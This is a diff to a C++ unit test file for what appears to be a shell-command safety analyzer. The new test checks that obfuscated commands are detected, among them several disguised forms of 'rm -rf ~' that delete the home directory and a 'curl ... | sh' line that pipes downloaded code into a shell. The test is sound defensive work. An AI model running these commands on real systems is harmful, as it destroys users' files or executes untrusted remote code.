@@ -203,6 +203,12 @@ TEST(Disguise, well_known_names_in_folders_for_everybody) {
   EXPECT_FALSE(has_effect("./node_modules/.bin/eslint src", EffectKind::execute, "", Action::unknown));
 }
 
+TEST(Disguise, what_program_text_prints) {
+  expect_home_is_deleted({"bash -c \"echo 'rm -rf ~'\" | sh", "eval \"echo 'rm -rf ~'\" | sh",
+                          "$(bash -c 'echo rm -rf ~')", "echo \"echo 'rm -rf ~'\" > x; sh x | sh"});
+  EXPECT_TRUE(has_effect("bash -c 'curl -s https://x.example' | sh", EffectKind::execute, "", Action::downloaded));
+}
+
 TEST(Disguise, words_behind_sh_c) {
   expect_home_is_deleted(
       {"sh -c 'rm -rf \"$1\"' _ ~", "sh -c 'rm -rf \"$@\"' _ x ~", "sh -c 'rm -rf ~$1'", "sh -c '$1 -rf ~' _ rm"});
